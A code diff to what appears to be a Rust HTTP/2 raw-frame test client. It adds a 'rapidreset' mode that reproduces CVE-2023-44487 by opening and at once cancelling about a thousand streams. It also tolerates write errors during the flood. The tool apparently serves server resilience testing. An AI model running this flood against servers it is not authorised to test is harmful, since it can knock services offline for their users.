@@ -890,9 +890,27 @@ fn h2_raw(addr: &str, mode: &str) -> anyhow::Result<()> {
             "preface" => {}
             "headers" => sent.extend(raw_h2::get(1, addr, "/never", false)),
             "request" => sent.extend(raw_h2::get(1, addr, "/once", true)),
-            _ => anyhow::bail!("mode: preface, headers or request"),
+            // HTTP/2 rapid reset (CVE-2023-44487): streams opened and cancelled
+            // at once, each costing the server work and none counting against
+            // its concurrent stream limit.
+            "rapidreset" => {
+                for stream in (1..2000u32).step_by(2) {
+                    sent.extend(raw_h2::get(stream, addr, "/reset", true));
+                    sent.extend(raw_h2::frame(
+                        raw_h2::RST_STREAM,
+                        0,
+                        stream,
+                        &8u32.to_be_bytes(),
+                    ));
+                }
+            }
+            _ => anyhow::bail!("mode: preface, headers, request or rapidreset"),
         }
-        tcp.write_all(&sent).await?;
+        // A server may close before taking it all (a flood): say so, and read
+        // what it sent.
+        if let Err(e) = tcp.write_all(&sent).await {
+            println!("write_error={e}");
+        }
         // In the middle of a header block a client may send nothing else.
         let answer = mode != "headers";
         let seen = raw_h2::read_until_closed(&mut tcp, Duration::from_secs(30), answer).await;
